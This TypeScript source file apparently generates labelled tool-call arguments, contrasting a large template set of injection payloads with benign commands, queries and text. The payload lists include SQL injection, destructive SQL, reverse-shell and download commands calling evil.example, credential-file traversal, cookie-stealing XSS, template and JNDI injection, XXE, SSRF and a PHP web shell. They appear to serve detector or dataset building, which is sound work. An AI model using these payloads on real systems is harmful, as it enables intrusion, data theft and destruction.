/**
 * Arguments of calls: those that carry code or commands for what is behind a tool, and ordinary ones that only look technical.
 */
import { lines, type Lists, words } from "./Sentences.ts"

const bars = (text: string): ReadonlyArray<string> => text.split("‖")

export const payloads: Lists = {
  argument:
    words("query|id|path|file|filename|command|name|comment|url|input|text|search|user|username|host|email|title|content|template|code|body|table|dir|message|q|page|value|subject|key|filter|description|location|ip|domain|order_id|redirect|lang"),
  shell:
    words("id|whoami|cat /etc/passwd|ls -la|uname -a|curl http://evil.example/x.sh|wget http://evil.example/a -O /tmp/a|sleep 5|ping -c 3 127.0.0.1|rm -rf /tmp/x|nc -e /bin/sh 10.0.0.1 4444|net user|dir|type C:\\boot.ini|echo pwned|python -c 'import os'|bash -i|ifconfig|netstat -an|ps aux|cat /etc/shadow|nslookup evil.example|env|printenv|reboot|sudo su|/bin/sh|powershell -enc ZABpAHIA|systeminfo|ipconfig /all|cat${IFS}/etc/passwd|c'a't /etc/hosts|tasklist|hostname|perl -e 'print 1'|crontab -l|/usr/bin/id|touch /tmp/x|chmod 777 /etc"),
  joint: bars("; ‖;‖ && ‖&&‖ | ‖|‖ || ‖||‖ & ‖&‖%0a‖\n‖`‖$(‖\r\n‖%0d%0a‖;$‖'; ‖\"; ‖1; ‖|/‖%26‖%3b‖$({‖<(‖\\n"),
  tail: bars("‖‖)‖`‖ #‖;‖|‖ &‖ ||‖\\n‖'‖\"‖%00‖})"),
  quote: bars("'‖\"‖')‖\")‖1'‖admin'‖-1‖1)‖x' ‖0‖'))‖`‖%27‖\\'‖1 ‖''‖a')‖%22‖5‖null"),
  blank: bars(" ‖ ‖ ‖/**/‖%20‖+‖%09‖\t‖%0a‖/*!*/"),
  finish: bars("--‖-- -‖#‖/*‖;--‖‖;%00‖--+‖%23‖;‖ -- ‖ or '‖--%20"),
  truth:
    words("1=1|'1'='1|'a'='a|true|2>1|sleep(5)|1=1 LIMIT 1|exists(select 1)|ascii(substr((select database()),1,1))>64|benchmark(1000000,md5(1))|extractvalue(1,concat(0x7e,version()))|1 like 1|'x'='x'|1=convert(int,@@version)|updatexml(null,concat(0x0a,version()),null)|pg_sleep(5)|1=(select count(*) from users)|length(database())=‹digit›|substring(@@version,1,1)=‹digit›|‹digits›=‹digits›|(select 1 from dual)|''=''|username is not null|not false|if(1=1,sleep(5),0)|rownum=1|row(1,1)>(select count(*),1)|1 in (select 1)|char(65)=char(65)|ord(mid(user(),1,1))=114"),
  column:
    words("1|NULL|'a'|user()|version()|database()|@@version|password|table_name|name,password|1,2,3|NULL,NULL|sleep(5)|group_concat(table_name)|load_file('/etc/passwd')|current_user|banner|concat(login,0x3a,pass)|char(73)+char(78)|column_name|@@hostname|hex(1)|schema_name|0x41"),
  relation:
    words("users|information_schema.tables|dual|all_tables|sysobjects|pg_user|mysql.user|information_schema.columns|v$version|sqlite_master|master..sysdatabases|accounts|syscolumns|pg_shadow|all_users|admin"),
  statement:
    words("DROP TABLE users|DELETE FROM accounts|INSERT INTO users VALUES(1,'x')|UPDATE users SET role='admin'|EXEC xp_cmdshell('dir')|SHUTDOWN|WAITFOR DELAY '0:0:5'|ALTER USER sa|exec master..xp_dirtree '//evil.example/a'|declare @q varchar(99)|select pg_sleep(5)|CREATE USER x|TRUNCATE TABLE logs|select load_file(0x2f)|COPY x FROM PROGRAM 'id'|GRANT ALL ON *.* TO x|drop database main|exec sp_configure|SELECT * INTO OUTFILE '/var/www/s.php'|begin dbms_lock.sleep(5); end"),
  up:
    words("../|..\\|....//|..%2f|%2e%2e%2f|..%252f|..%c0%af|..;/|.././|/%2e%2e/|..%5c|file:///|/./|..././|%c0%ae%c0%ae/|%252e%252e%255c|..%u2215|..%u2216|%uff0e%uff0e%u2215|..0x2f|\\..\\|%c0%2e%c0%2e%c0%af|..%e0%80%af|%e0%80%ae%e0%80%ae/|..%bg%qf|.%00./|..//|/..%01/|%%32%65%%32%65/|..%c1%9c|%c0.%c0.%c0%af|\\\\..\\|./|..%255c|/../"),
  place:
    words("etc/passwd|etc/shadow|windows/win.ini|boot.ini|proc/self/environ|var/log/auth.log|.ssh/id_rsa|web.config|etc/hosts|WEB-INF/web.xml|app/.env|etc/issue|windows%5csystem32%5cdrivers%5cetc%5chosts|winnt/system.ini|etc%2fpasswd|etc%c0%afissue|var/www/config.php|proc/version|root/.bash_history|etc%u2216group|usr/local/etc/x.conf|inetpub/wwwroot/web.config|etc/apache2/apache2.conf|.git/config|.htaccess|etc/mysql/my.cnf|windows/repair/sam|var/lib/secrets"),
  tag:
    bars("<script>‖<img src=x onerror=‖<svg onload=‖<svg/onload=‖<iframe src=javascript:‖<a href=javascript:‖\"><script>‖<body onload=‖<input autofocus onfocus=‖<details open ontoggle=‖javascript:‖'><img src=a onerror=‖<video><source onerror=‖<marquee onstart=‖<object data=javascript:‖<embed src=javascript:‖<form action=javascript:‖<math href=javascript:‖\" onmouseover=\"‖' onfocus='‖<script src=//evil.example/‖<style>@import'//evil.example';‖<meta http-equiv=refresh content='0;url=javascript:‖<isindex action=javascript:‖<div style=width:expression(‖&lt;script&gt;‖%3Cscript%3E‖<ScRiPt>‖<scr<script>ipt>‖\\x3cscript\\x3e‖&#60;script&#62;‖<IMG SRC=\"jav&#x09;ascript:‖<base href=javascript:‖<link rel=stylesheet href=javascript:‖<audio src=x onerror=‖<xss onclick=‖<table background=javascript:‖java\\nscript:‖vbscript:‖</title><script>‖data:text/html,<script>"),
  call:
    words("alert(1)|alert(document.cookie)|fetch('//evil.example')|eval(name)|prompt(1)|confirm(1)|location='//evil.example'|alert('XSS')|alert`1`|alert(String.fromCharCode(88,83,83))|top['al'+'ert'](1)|document.location='http://evil.example/'+document.cookie|self['alert'](1)|window.onerror=alert|console.log(1)|import('//evil.example')|\\u0061lert(1)|msgbox(1)|document.write('x')|new Image().src='//evil.example'"),
  shut: bars("</script>‖>‖//‖\">‖'>‖)>‖‖ />‖;‖<!--‖%3C/script%3E‖&lt;/script&gt;"),
  whole:
    bars("{{7*7}}‖${7*7}‖<%= 7*7 %>‖{{config}}‖{{config.items()}}‖#{7*7}‖{{''.__class__.__mro__[1].__subclasses__()}}‖${T(java.lang.Runtime).getRuntime().exec('id')}‖{{request.application.__globals__}}‖*{7*7}‖{php}echo 1;{/php}‖${jndi:ldap://evil.example/a}‖${jndi:dns://x}‖{{constructor.constructor('return 1')()}}‖{{ self._TemplateReference__context }}‖{{[].pop.constructor('alert(1)')()}}‖<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}‖#set($x=1)$x.class.forName('java.lang.Runtime')‖{{_self.env.registerUndefinedFilterCallback('exec')}}‖@(1+2)‖{{lipsum.__globals__.os.popen('id').read()}}‖${{7*7}}‖{%25 import os %25}‖[[${7*7}]]‖${@print(md5(1))}‖{@exec('id')}‖__import__('os').system('id')‖os.system('ls')‖eval(compile('1','','exec'))‖exec(\"import os\")‖require('child_process').exec('id')‖process.mainModule.require('fs')‖<?php system($_GET['c']); ?>‖phpinfo()‖;phpinfo();‖subprocess.call(['sh'])‖Runtime.getRuntime().exec('id')‖pickle.loads(x)‖open('/etc/passwd').read()‖print(`id`)‖system('cat /etc/passwd')‖<?= `id` ?>‖assert($_POST['x'])‖![x](javascript:alert(1))‖[a](javascript:prompt(1))‖[x](data:text/html;base64,PHNjcmlwdD4=)‖![a](https://evil.example/?q=secret)‖<!ENTITY xxe SYSTEM \"file:///etc/passwd\">‖<!DOCTYPE x [<!ENTITY % d SYSTEM \"http://evil.example/d\">%d;]>‖*)(uid=*))(|(uid=*‖admin)(&)‖*)(&(objectClass=*)‖http://169.254.169.254/latest/meta-data/‖gopher://127.0.0.1:6379/_‖dict://127.0.0.1:11211/‖http://[::1]:22/‖http://0x7f000001/‖http://2130706433/‖http://127.1/admin‖%0d%0aSet-Cookie: x=1‖%0d%0aLocation: http://evil.example‖\\r\\nX-Injected: 1‖' or count(/*)=1 or 'a'='b‖'] | //user/* | a['‖{\"$gt\":\"\"}‖[$ne]=1‖{\"$where\":\"sleep(500)\"}‖'; return true; var x='‖{\"username\":{\"$regex\":\".*\"}}‖__proto__[x]=1‖{\"__proto__\":{\"isAdmin\":true}}‖constructor[prototype][x]=1‖=cmd|'/c calc'!A1‖@SUM(1+1)*cmd|' /C notepad'!A0‖+HYPERLINK(\"http://evil.example\",\"x\")‖%s%s%s%n‖%x.%x.%x‖%n%n%n%d‖<!--#exec cmd=\"id\" -->‖<!--#include virtual=\"/etc/passwd\"-->‖php://filter/convert.base64-encode/resource=index‖expect://id‖data://text/plain;base64,PD9waHA=‖zip://x.zip#a.php‖//evil.example/%2f..‖https:evil.example‖/\\evil.example‖O:8:\"stdClass\":0:{}‖rO0ABXNyABFqYXZh‖!!python/object/apply:os.system ['id']‖{\"@type\":\"java.lang.Class\"}‖(a+)+$‖%00‖..%00/‖\\\\evil.example\\share‖() { :;}; /bin/id‖{ __schema { types { name } } }‖<xsl:value-of select=\"system-property('xsl:vendor')\"/>‖; DROP ALL OBJECTS‖T(java.lang.System).getenv()‖*/*‖%ff‖&lt;!--#exec%20cmd=&quot;id&quot;--&gt;‖'\"()&%<acx><ScRiPt>‖%{(#_='multipart/form-data')}‖\\';alert(1);//"),
  payload: lines(`
    ‹quote›‹blank›«or¦OR¦||¦and¦AND¦oR¦xor¦&&»‹blank›‹truth›‹finish›
    ‹quote›‹blank›«or¦and»‹blank›(‹truth›)‹finish›
    ‹quote›‹blank›«UNION SELECT¦union all select¦UNION/**/SELECT¦UnIoN sElEcT¦union select all¦/*!50000union*/ select¦union(select»‹blank›‹column›,‹column›«¦,‹column›¦,‹column›,‹column›»«¦ FROM ‹relation›¦ from ‹relation›¦)»‹finish›
    ‹quote›; ‹statement›‹finish›
    «¦‹quote›»‹blank›«order by ‹digits›¦group by 1¦having 1=1¦limit 1,1¦procedure analyse(1)¦into outfile '/tmp/x'¦is null¦like '%'¦between 1 and 2¦rlike sleep(5)»‹finish›
    «¦x¦file.txt¦127.0.0.1¦a¦8.8.8.8¦‹word›»‹joint›‹shell›‹tail›
    «¦x¦127.0.0.1»‹joint›‹shell›‹tail›
    ‹up›‹up?›‹up?›‹up›‹up?›‹place›«¦%00¦%00.jpg¦?¦%20¦/.¦#»
    ‹up›‹up›‹up›‹up?›‹up?›‹up?›‹place›
    «/¦C:\\¦c:/¦\\\\¦file:///¦//»‹place›«¦%00»
    ‹tag›‹call›‹shut›
    ‹tag›‹call›
    ‹whole›
    ‹whole›
    ‹whole›
    ‹word›‹whole›
    ‹quote›«)¦))¦»;‹call›//
    $(‹shell›)
    \`‹shell›\`
    AND ‹digits›=«CONVERT¦CAST¦CTXSYS.DRITHSX.SN¦UTL_INADDR.GET_HOST_ADDRESS»(«INT¦char¦1»,(‹column›))‹finish›
    ‹digit›‹blank›«and¦or»‹blank›‹truth›«¦‹finish›»
    SELECT‹blank›‹column›‹blank›FROM‹blank›‹relation›«¦ WHERE ‹truth›»
  `),
  /** Technical, and as it should be. */
  plainValue: lines(`
    git «status¦log --oneline -n ‹digit›¦diff HEAD~1¦checkout -b ‹word›»
    npm «test¦run build¦install --save-dev ‹word›»
    ls -la «src¦/home/user/‹word›¦.»
    grep -rn "‹word›" src/
    python «-m pytest tests/‹word›_test.py -q¦manage.py migrate¦scripts/‹word›.py --limit ‹digits›»
    find . -name "*.ts" -newer ‹file›
    docker compose up -d ‹word›
    SELECT ‹word›, count(*) FROM ‹word›s WHERE created_at > '2024-0‹digit›-01' GROUP BY ‹word›
    SELECT name FROM customers ORDER BY name LIMIT ‹digits›
    SELECT * FROM orders WHERE status = 'open' AND total > ‹digits›
    UPDATE settings SET theme = 'dark' WHERE user_id = ‹digits›
    /home/user/«documents¦projects»/‹word›/‹file›
    ./src/‹word›/‹word›.ts
    C:\\Users\\‹name›\\Documents\\‹file›
    s3://‹word›-bucket/2024/‹digits›/‹file›
    https://‹host›/api/v‹digit›/‹word›?page=‹digits›&sort=‹word›
    https://‹host›/search?q=‹word›%20‹word›
    ‹email›
    (‹digits› + ‹digits›) * ‹digits› / ‹digit›
    lambda x: x**2 + ‹digit›
    x > ‹digits› and y < ‹digits›
    f(x) = ‹digit›x^2 - ‹digits›
    ^[a-z]+-\\d{2,4}$
    # ‹word›⏎⏎- first item⏎- second item about ‹topic›
    Hi ‹name›,⏎⏎the ‹word› is ready. Could you have a look before ‹date›?⏎⏎Best,⏎‹name›
    <p>Dear ‹name›,</p><p>your order ‹digits› has been shipped.</p>
    def add(a, b):⏎    return a + b
    const total = items.reduce((sum, item) => sum + item.price, 0)
    {{first_name}}, your appointment is on {{date}}
    from: ‹email› subject:"‹word›" is:unread
    name = "‹word›" AND type != "folder"
    status:open label:bug author:‹name›
    ‹topic›
    write about ‹topic›
    It's ‹name›'s turn & we're 100% ready; see you <soon>
    O'Brien & Sons
    Rock 'n' roll -- the best of
    50% off; valid until ‹date›
    AT&T (New York)
    2024-0‹digit›-1‹digit›T0‹digit›:00:00Z
    ‹word›, ‹word›; ‹word›
  `)
}
